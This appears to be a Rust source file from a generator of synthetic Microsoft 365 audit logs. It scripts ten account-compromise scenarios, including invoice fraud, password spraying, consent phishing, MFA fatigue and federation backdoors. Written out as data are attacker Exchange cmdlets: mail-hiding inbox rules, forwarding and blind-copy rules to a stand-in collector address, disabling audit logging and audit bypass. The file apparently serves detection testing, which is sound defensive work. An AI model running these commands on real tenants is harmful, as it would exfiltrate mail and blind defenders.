//! What happens in each tale.

use chrono::TimeDelta;
use serde_json::json;

use super::{Plot, Telling};
use crate::dice::Dice;
use crate::month::{Edit, PHONES, home_address, hosting_address, permissions, through};
use crate::people::{ATTACKER_BROWSER, BROWSERS, Session};
use crate::records::mailbox::{self, Access, Client, INBOX, RuleChange, SENT_ITEMS};
use crate::records::{defender, entra, flow, sharepoint};

const COLLECTOR: &str = "archive.box@mail.example.org";
/// What every Windows and every telephone registers with.
const BROKER_APP: &str = "29d9ed98-a469-4536-ade2-f981bc1d605e";

pub(super) struct Entry {
    pub(super) name: &'static str,
    pub(super) play: Plot,
    /// Where the attacker comes from at first.
    pub(super) address: fn(&mut Dice) -> String,
    /// The victim is this administrator, else a member of the staff.
    pub(super) administrator: Option<usize>,
}

const fn staff(name: &'static str, play: Plot, address: fn(&mut Dice) -> String) -> Entry {
    Entry { name, play, address, administrator: None }
}

const fn admin(name: &'static str, play: Plot, address: fn(&mut Dice) -> String, number: usize) -> Entry {
    Entry { name, play, address, administrator: Some(number) }
}

pub(super) const PLOTS: [Entry; 10] = [
    staff("invoice fraud", invoice_fraud, hosting_address),
    staff("spray and forward", spray_and_forward, hosting_address),
    staff("stolen session", stolen_session, home_address),
    staff("illicit consent", illicit_consent, hosting_address),
    admin("new administrator", new_administrator, hosting_address, 0),
    admin("application key", application_key, home_address, 1),
    staff("leaver", leaver, home_address),
    staff("tired of prompts", tired_of_prompts, mobile_abroad),
    admin("transport rule", transport_rule, hosting_address, 3),
    admin("foreign federation", foreign_federation, hosting_address, 2),
];

/// A telephone operator that nobody of the staff has.
fn mobile_abroad(dice: &mut Dice) -> String {
    format!("198.19.{}.{}", dice.between(90, 120), dice.between(1, 250))
}

/// A page in the middle takes the session, with the victim's own system; somebody's home connection goes on with it.
fn invoice_fraud(t: &mut Telling<'_>) {
    let click = defender::link_click(
        &t.month.office.tenant,
        &mut t.dice,
        t.at,
        (t.victim, &t.victim.office_ip),
        "https://statement.example.org/open",
    );
    t.step("link opened", vec![click]);
    t.sign_in();
    t.session.ip = home_address(&mut t.dice);
    let read = t.read(t.victim, Client::Web, 12);
    t.step("mail read", read);
    let object = format!("{}\\,", t.victim.alias);
    let parameters = [
        ("AlwaysDeleteOutlookRulesBlob", "False"),
        ("Force", "False"),
        ("SubjectOrBodyContainsWords", "transfer;iban;invoice"),
        ("Name", ","),
        ("MoveToFolder", "Conversation History"),
        ("MarkAsRead", "True"),
        ("StopProcessingRules", "True"),
    ];
    t.cmdlet("inbox rule", ("New-InboxRule", &object), &parameters);
    t.send(9, "RE: transfer, our account has changed");
}

/// Sixty accounts from a dozen addresses, slowly; the one that fits is used from yet another.
fn spray_and_forward(t: &mut Telling<'_>) {
    t.with(&BROWSERS[1]);
    let addresses: Vec<String> = (0..12).map(|_| hosting_address(&mut t.dice)).collect();
    let mut records = Vec::new();
    for turn in 0..60 {
        t.session.ip = addresses[turn % 12].clone();
        let person = &t.month.office.staff[turn * 8 + 3];
        let outcome = if turn % 2 == 0 { &entra::WRONG_PASSWORD } else { &entra::WRONG_PASSWORD_CALLED_SUCCESS };
        records.push(t.signed(person, outcome, turn as i64 * 40));
    }
    t.step("spray", records);
    t.wait(41, 60);
    let signed = vec![t.signed(t.victim, &entra::SIGNED_IN, 0)];
    t.step("sign-in", signed);
    t.session.ip = hosting_address(&mut t.dice);
    let target = format!("smtp:{COLLECTOR}");
    let alias = t.victim.alias.clone();
    let parameters =
        [("Identity", alias.as_str()), ("ForwardingSmtpAddress", &target), ("DeliverToMailboxAndForward", "True")];
    t.cmdlet("forwarding", ("Set-Mailbox", &alias), &parameters);
}

/// The victim's own session, copied from the browser by a program: it begins at the desk and goes on elsewhere, on the
/// same system and with another browser.
fn stolen_session(t: &mut Telling<'_>) {
    let own = Session { id: t.session.id.clone(), ip: t.victim.office_ip.clone(), browser: t.victim.browser };
    let flow = t.dice.guid();
    let tenant = &t.month.office.tenant;
    let first = entra::sign_in(tenant, &mut t.dice, t.at, (t.victim, &own), &entra::SIGNED_IN, &flow);
    t.step("session taken", vec![first]);
    let other = BROWSERS
        .iter()
        .find(|browser| browser.system == t.victim.browser.system && browser.name != t.victim.browser.name);
    t.with(other.unwrap_or(&BROWSERS[0]));
    let second = vec![t.signed(t.victim, &entra::SIGNED_IN, 0)];
    t.step("session used", second);
    let method = t.month.new_method(&mut t.dice, t.at, t.victim);
    t.step("second factor added", vec![method]);
    let session = t.session.clone();
    let access = Access { person: t.victim, session: &session, client: Client::Desktop };
    let rule = RuleChange::Add {
        name: "...",
        condition: "{}",
        actions: json!([{"ActionType": "Delete", "DeleteAction": "MoveToDeletedItems"}]),
    };
    let record = mailbox::update_inbox_rules(&t.month.office.tenant, &mut t.dice, t.at, access, &rule);
    t.step("inbox rule", vec![record]);
    t.send(140, "A document was shared with you");
}

/// The victim agrees at the own desk; what comes then is the application.
fn illicit_consent(t: &mut Telling<'_>) {
    let attacker = t.session.clone();
    t.session = Session { id: t.dice.guid(), ip: t.victim.office_ip.clone(), browser: t.victim.browser };
    let click = defender::link_click(
        &t.month.office.tenant,
        &mut t.dice,
        t.at,
        (t.victim, &t.victim.office_ip),
        "https://backup.example.org/connect",
    );
    t.step("link opened", vec![click]);
    let (application, service) = (t.dice.guid(), t.dice.guid());
    let names = [("Mail Backup Helper", 1), (application.as_str(), 2), (application.as_str(), 4)];
    let target = entra::target("ServicePrincipal", &service, &names);
    let scopes = "Mail.ReadWrite Mail.Send offline_access";
    let edits = vec![
        Edit::new("Add service principal.", "ServicePrincipal", &application).at(target.clone()),
        Edit::new("Add delegated permission grant.", "ServicePrincipal", &application)
            .at(target.clone())
            .set("DelegatedPermissionGrant.Scope", &format!(" {scopes}"))
            .set("DelegatedPermissionGrant.ConsentType", "Principal"),
        Edit::new("Consent to application.", "ServicePrincipal", &application)
            .at(target)
            .set("ConsentContext.IsAdminConsent", "False")
            .set("ConsentContext.OnBehalfOfAll", "False")
            .set("ConsentAction.Permissions", &permissions("Principal", scopes)),
    ];
    t.edit("consent", edits);
    t.session = attacker;
    let read = t.read(t.victim, Client::App(&application), 15);
    t.step("mail read", read);
}

/// An administrator types the code of a stranger's computer.
fn new_administrator(t: &mut Telling<'_>) {
    t.with(&ATTACKER_BROWSER);
    let signed = t.signed(t.victim, &entra::DEVICE_CODE_CONFIRMED, 0);
    t.step("sign-in", vec![through(signed, BROKER_APP)]);
    let name = format!("svc.backup@{}", t.month.office.tenant.domain);
    t.edit("user added", vec![Edit::new("Add user.", "User", &name)]);
    let edit = Edit::new("Add member to role.", "Role", &name).role(
        "Global Administrator",
        "62e90394-69f5-4237-9190-012177145e10",
        "TenantAdmins",
    );
    t.edit("role given", vec![edit]);
    let parameters = [("UnifiedAuditLogIngestionEnabled", "False")];
    t.cmdlet("audit off", ("Set-AdminAuditLogConfig", "Admin Audit Log Settings"), &parameters);
}

fn application_key(t: &mut Telling<'_>) {
    t.sign_in();
    let (application, object) = (t.dice.guid(), t.dice.guid());
    let target = entra::target("ServicePrincipal", &object, &[("Archive connector", 1), (&application, 2)]);
    let key =
        entra::listed(&format!("[KeyIdentifier={},KeyType=Password,KeyUsage=Verify,DisplayName=k]", t.dice.guid()));
    let edit = Edit::new("Add service principal credentials.", "ServicePrincipal", &object)
        .at(target)
        .set("KeyDescription", &key);
    t.edit("key added", vec![edit]);
    t.session.ip = hosting_address(&mut t.dice);
    let mut records = Vec::new();
    for turn in 0..12 {
        let person = &t.month.office.staff[turn * 3];
        records.extend(t.read(person, Client::App(&application), 3));
    }
    t.step("mail read", records);
}

/// No stranger: from home, with the own computer, in the last days of a contract.
fn leaver(t: &mut Telling<'_>) {
    t.session = Session { id: t.dice.guid(), ip: t.victim.home_ip.clone(), browser: t.victim.browser };
    let session = t.session.clone();
    let tenant = &t.month.office.tenant;
    let connectors = "Office 365 Outlook,Gmail";
    let who = (t.victim, &session);
    let made = flow::change(tenant, &mut t.dice, t.at, who, ("CreateFlow", connectors));
    t.step("flow made", vec![made]);
    t.at += TimeDelta::days(1);
    let files = |t: &mut Telling<'_>, name, operation, count| {
        let mut records = Vec::new();
        for turn in 0..count {
            let at = t.at + TimeDelta::seconds(turn * 3);
            records.push(sharepoint::file(tenant, &mut t.dice, at, who, operation));
        }
        t.at += TimeDelta::seconds(count * 3);
        t.step(name, records);
    };
    files(t, "files taken", "FileDownloaded", 900);
    files(t, "files removed", "FileDeleted", 350);
    let access = Access { person: t.victim, session: &session, client: Client::Web };
    let mut records = Vec::new();
    for turn in 0..8 {
        let messages = t.month.messages(&mut t.dice, 30, 60);
        let at = t.at + TimeDelta::seconds(turn * 20);
        records.push(mailbox::delete(tenant, &mut t.dice, at, access, ("HardDelete", SENT_ITEMS), &messages));
    }
    t.at += TimeDelta::seconds(160);
    t.step("mail removed", records);
}

fn tired_of_prompts(t: &mut Telling<'_>) {
    t.with(&PHONES[1]);
    let records = (0..14).map(|turn| t.signed(t.victim, &entra::SECOND_FACTOR_TIMED_OUT, turn * 55)).collect();
    t.step("prompts", records);
    t.wait(10, 14);
    t.sign_in();
    let device = t.dice.guid();
    let names = [("DESKTOP-7Q", 1)];
    let registering = through(t.signed(t.victim, &entra::SIGNED_IN, 0), BROKER_APP);
    t.step("device signs in", vec![registering]);
    let edits = vec![
        Edit::new("Add device.", "Device", &device).at(entra::target("Device", &device, &names)),
        Edit::new("Add registered owner to device.", "Device", &device).at(entra::target("Device", &device, &names)),
    ];
    t.edit("device added", edits);
    let session = t.session.clone();
    let access = Access { person: t.victim, session: &session, client: Client::Desktop };
    let records = [INBOX, SENT_ITEMS, "\\Archive"]
        .into_iter()
        .map(|path| mailbox::sync(&t.month.office.tenant, &mut t.dice, t.at, access, path))
        .collect();
    t.step("mail synchronised", records);
}

fn transport_rule(t: &mut Telling<'_>) {
    t.with(&BROWSERS[2]);
    t.sign_in();
    let parameters = [("Name", "Journal 2"), ("Mode", "Enforce"), ("BlindCopyTo", COLLECTOR), ("Priority", "0")];
    t.cmdlet("transport rule", ("New-TransportRule", ""), &parameters);
    let name = t.victim.user_name.clone();
    let parameters = [("Identity", name.as_str()), ("AuditBypassEnabled", "True")];
    t.cmdlet("audit bypassed", ("Set-MailboxAuditBypassAssociation", &name), &parameters);
}

fn foreign_federation(t: &mut Telling<'_>) {
    t.sign_in();
    let domain = "login.example.org";
    let target = vec![(domain.to_owned(), 1)];
    let edits = vec![
        Edit::new("Add unverified domain.", "DirectoryManagement", domain).at(target.clone()),
        Edit::new("Verify domain.", "DirectoryManagement", domain).at(target.clone()),
        Edit::new("Set domain authentication.", "DirectoryManagement", domain)
            .at(target)
            .set("LiveType", &entra::listed("Federated")),
    ];
    t.edit("domain federated", edits);
    let edit = Edit::new("Set federation settings on domain.", "DirectoryManagement", domain)
        .set("IssuerUri", &entra::listed("urn:login.example.org"));
    t.edit("federation settings", vec![edit]);
    t.session = Session { id: t.dice.guid(), ..t.session.clone() };
    t.sign_in();
}
